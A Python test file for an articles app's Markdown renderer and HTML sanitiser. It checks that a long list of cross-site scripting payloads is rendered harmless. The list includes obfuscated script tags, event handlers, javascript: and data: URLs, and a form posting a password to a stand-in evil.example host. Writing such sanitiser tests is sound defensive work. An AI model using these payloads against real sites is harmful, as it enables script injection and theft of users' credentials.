"""No markup that an author (or somebody pasting) writes can run, load or submit anything."""

from html.parser import HTMLParser

import pytest

from app.articles.markdown import render
from app.articles.sanitising import sanitise

EVENTS = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput"
    " onbeforetoggle onbegin onblur oncanplay onchange onclick onclose oncontextmenu oncopy"
    " ondblclick ondrag onend onerror onfocus onfocusin onhashchange oninput oninvalid onkeydown"
    " onload onloadstart onmessage onmousedown onmouseover onpageshow onpaste onpointerdown"
    " onpointerover onpopstate onrepeat onresize onscroll onsearch onselect onstart onsubmit"
    " ontoggle ontouchstart ontransitionend onunload onwheel"
)

PAYLOADS = [
    *[f'<b {event}="alert(1)">x</b>' for event in EVENTS.split()],
    *[f"<img src=x {event}=alert(1)>" for event in ("onerror", "onload", "OnErRoR", "onerror\n")],
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x20type=text/javascript>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x.png)}</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='modal fixed' id=search>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:x'>x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<a target=_blank href=https://evil.example>x</a>",
    "<area href=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://a.example \"'onmouseover=alert(1) x='\")",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](a.png)',
    '![x](a.png"onerror=alert(1)//)',
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<img src=https://evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 1x' src=a.png>",
    "<img src='a.png' sizes=1 usemap='#x' longdesc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<<script>alert(1);//<</script>",
    "<b <script>alert(1)</script>0",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!><script>alert(1)</script> -->",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<table background=https://evil.example/x.png><tr><td>x</table>",
    "<td background='javascript:alert(1)'>x",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onconnected=alert(1)></custom-element>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<font size=7 color=red face='x' onclick=alert(1)>x</font>",
    "## x {#a onclick=alert(1)}",
    "## x {: onclick='alert(1)' style='color:red' #search}",
    '## <img src=x onerror=alert(1)> {#"><script>alert(1)</script>}',
    "x\n{: onmouseover='alert(1)'}",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! "><script>alert(1)</script>\n    x',
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "```js {onclick='alert(1)' style='x'}\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<a href='id:voz-01\" onclick=alert(1) x=\"'>x</a>",
    '[x](id:voz-01"onclick=alert(1))',
    '[x](x.md"><script>alert(1)</script>)',
    "<a href=https://a.example rel='preload' id=search name=cookie>x</a>",
    "<form id=location><a id=documentElement>x</a></form>",
]

FORBIDDEN_ATTRIBUTES = {"style", "srcset", "ping", "target", "action", "formaction", "background"}
SCHEMES = ("https://", "http://", "mailto:", "tel:", "#", "/to/", "/files/")


class Inspector(HTMLParser):
    """Reads HTML as a browser does and keeps what could do harm."""

    def __init__(self, html):
        super().__init__()
        self.harm = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if sanitise(f"<{tag}>") == "" and tag not in ("td", "th", "tr", "thead", "tbody", "table"):
            self.harm.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                self.harm.append(name)
            if name == "id" and not tag.startswith("h"):
                self.harm.append(f"{tag} id")
            if name == "href" and not value.startswith(SCHEMES):
                self.harm.append(value)
            if name == "src" and not value.startswith("/files/"):
                self.harm.append(value)


def html_of(source):
    page = render(
        source,
        link=lambda target: f"/to/{target.article_id or target.path}",
        file_url=lambda name: f"/files/{name}",
    )
    return page.html


def test_list_of_payloads_is_long_enough():
    assert len(set(PAYLOADS)) >= 150


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_harmless(payload):
    html = html_of(payload)
    assert Inspector(html).harm == []
    assert sanitise(html) == html


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["- {}", "> {}", "!!! tip\n    {}", "| a |\n|---|\n| {} |", "## {}"]
)
def test_payload_is_harmless_inside_other_markup(payload, frame):
    html = html_of(frame.format(payload))
    assert Inspector(html).harm == []
    assert sanitise(html) == html


def test_address_that_a_caller_gives_is_escaped():
    page = render(
        "[x](id:a) ![x](a.png)",
        link=lambda _: '/a"><script>alert(1)</script>',
        file_url=lambda _: 'javascript:alert("1")',
    )
    assert "<script>" not in page.html
    assert "javascript" not in page.html


def test_harmless_markup_stays():
    source = "H<sub>2</sub>O, <kbd>Ctrl</kbd>\n\n<details><summary>Ещё</summary>текст</details>\n"
    assert "<p>H<sub>2</sub>O, <kbd>Ctrl</kbd></p>" in html_of(source)
    assert "<details><summary>Ещё</summary>текст</details>" in html_of(source)
